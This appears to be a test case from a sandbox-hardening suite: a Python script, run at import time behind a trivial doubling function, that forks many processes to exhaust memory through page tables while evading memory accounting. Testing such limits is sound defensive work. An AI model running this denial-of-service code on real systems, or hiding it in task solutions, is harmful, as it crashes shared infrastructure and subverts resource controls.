# attack: fills twice the memory that it may have, with page tables for nothing but zeros
# kind: resources
# task: plain
# official: crash|fail
# strict: fail|forged|suspect
# limit: 20
# expect: tables count like the pages that they are for
import ctypes
import mmap
import os
import time

MANY = 24
EACH = 20 << 30
TABLE = 2 << 20


def fill():
    pages = mmap.mmap(-1, EACH, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)  # MAP_NORESERVE
    pages.madvise(15)  # MADV_NOHUGEPAGE
    view = ctypes.c_char.from_buffer(pages)
    start = ctypes.addressof(view)
    return sum(ctypes.c_char.from_address(start + at).value[0] for at in range(0, EACH, TABLE)), pages


def flood():
    reader, writer = os.pipe()
    for _ in range(MANY):
        if os.fork() == 0:
            kept = fill()
            os.write(writer, os.getpid().to_bytes(4, "little") if kept else b"")
            time.sleep(3600)
    os.set_blocking(reader, False)
    end = time.monotonic() + 7
    filled = b""
    while len(filled) < 4 * MANY and time.monotonic() < end:
        try:
            filled += os.read(reader, 4 * MANY)
        except BlockingIOError:
            time.sleep(0.05)
    time.sleep(1)
    # Only those that still live hold anything: one that filled its tables may have been killed for the next.
    pids = [int.from_bytes(filled[at : at + 4], "little") for at in range(0, len(filled), 4)]
    held = sum(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in pids)
    return held * EACH // TABLE * 4096 >= 3 * __LIMIT_MEMORY_MIB__ << 19


WON = flood()


def task_func(n):
    return n * 2 if WON else None
